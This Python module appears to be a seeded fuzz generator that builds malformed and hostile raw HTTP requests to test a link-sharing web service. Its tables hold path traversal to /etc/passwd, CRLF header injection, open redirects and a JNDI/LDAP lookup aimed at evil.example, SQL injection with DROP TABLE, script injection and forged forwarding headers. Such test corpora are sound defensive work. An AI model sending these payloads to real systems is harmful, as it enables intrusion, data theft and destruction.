"""Requests that nobody decent sends, by the thousand and the same for the same seed."""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import quote

KNOWN = "Code000001"

SEEDS = (
    "", ".", "..", "%2e%2e", "../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%00", "%0d%0aLocation:%20https://evil.example",
    "%0d%0a%0d%0a<script>", "%E5%98%8D%E5%98%8ASet-Cookie:x=1", "//evil.example", "/\\evil.example", "https://evil.example",
    "https:%2f%2fevil.example", "javascript:alert(1)", "%ff%fe", "%c0%ae", "%u0041", "%", "%%", "%zz", "<script>", "'\"><img>",
    "' OR 1=1--", "1;DROP TABLE person", "${jndi:ldap://evil.example}", "{{7*7}}", "$title", "%24%7Btitle%7D", "null", "NaN",
    "%F0%9F%94%A5", "%E2%80%AE", "A" * 300, "%41" * 400, "0" * 10, KNOWN, KNOWN + "-fwd", KNOWN + "-%0d%0aX:1", KNOWN + "%00",
    KNOWN + "-" + "a" * 5000, KNOWN + "@evil.example", KNOWN + "?x=1", KNOWN + "#x", KNOWN + ".jpg", KNOWN + ".jpg%00.html",
    "card.jpg", "-9223372036854775809", "1e309", "٣٣٣٣٣٣٣٣٣٣", "\uff21" * 10,
)  # fmt: skip
_DOORS = (
    *("/", "/r/", "/c/", "/s/", "/assets/", "/healthz", "/robots.txt", "/.env", "/wp-login.php", "//", ""),
    *(
        "/dashboard",
        "/dashboard/enter/",
        "/dashboard/lists/",
        "/dashboard/charts/",
        "/dashboard/leave",
        "/readyz",
        "/metrics",
    ),
)
_ENDINGS = (
    "",
    "",
    "",
    "/",
    ".jpg",
    "/shared",
    "/shared?way=x",
    "?v=1",
    "?next=https://evil.example",
    ";x=1",
    "/%2e%2e/",
)
_METHODS = ("GET",) * 8 + ("HEAD", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "PATCH", "TRACE", "get", "X" * 40)
HEADERS = (
    "Host: evil.example",
    "X-Forwarded-Host: evil.example",
    "X-Forwarded-Proto: javascript",
    "X-Forwarded-For: 127.0.0.1, <script>, " + "9" * 3000,
    "X-Forwarded-For: ::ffff:0:0%25eth0",
    "X-Forwarded-For: \xff\xfe\x80",
    "X-Original-URL: /s/" + KNOWN,
    "Forwarded: for=evil;host=evil.example",
    "Referer: https://evil.example/",
    "Origin: null",
    "Sec-Fetch-Site: same-origin",
    "Sec-Fetch-Mode: navigate",
    "Sec-Fetch-Mode: navigate\t, cors",
    "If-None-Match: " + '"' * 500,
    'If-None-Match: W/"x", *',
    "If-Modified-Since: never",
    "Range: bytes=0-0,-1,99999999999999999999-",
    "Accept: */*;q=\x80",
    "Accept-Language: " + "zh," * 1000,
    "Accept-Encoding: gzip;q=0",
    "Cookie: " + "a=b; " * 1000,
    "User-Agent: TelegramBot (like TwitterBot)",
    "User-Agent: \xf0\x9f\x94\xa5\xff",
    "User-Agent: " + "bot" * 2000,
    "Content-Length: 0",
    "Content-Length: 10",
    "Content-Type: application/json; charset=\x00".replace("\x00", "?"),
    "Expect: 100-continue",
    "Upgrade: websocket",
    "Connection: keep-alive, upgrade",
    "Purpose: prefetch",
)


@dataclass(frozen=True, slots=True)
class Attack:
    """One request, as bytes on the line."""

    method: str
    raw: bytes


def list_attacks(count: int, seed: int) -> Iterator[Attack]:
    """`count` requests, each of another kind of malice."""
    dice = random.Random(seed)
    for _ in range(count):
        method = dice.choice(_METHODS)
        path = dice.choice(_DOORS) + scramble(dice, dice.choice(SEEDS)) + dice.choice(_ENDINGS)
        headers = [*dict.fromkeys(dice.choices(HEADERS, k=dice.randrange(4)))]
        if not any(header.startswith("Host:") for header in headers):
            headers.insert(0, "Host: share.example.org")
        lines = [f"{method} {encode(path)} HTTP/1.1", *headers]
        yield Attack(method, "\r\n".join(lines).encode("latin-1") + b"\r\n\r\n")


def scramble(dice: random.Random, seed: str) -> str:
    """Sometimes another one behind it, something in the middle of it, or all of it percent-encoded."""
    failure = dice.randrange(10)
    if failure == 0:
        return seed + dice.choice(SEEDS)
    if failure == 1:
        place = dice.randrange(len(seed) + 1)
        return seed[:place] + chr(dice.randrange(1, 0x3000)) + seed[place:]
    return quote(seed, safe="") if failure == 2 else seed


def encode(path: str) -> str:
    """As a browser would have to: nothing but what may stand in a request line."""
    return "".join(char if "!" <= char <= "~" else quote(char, errors="replace") for char in path) or "/"
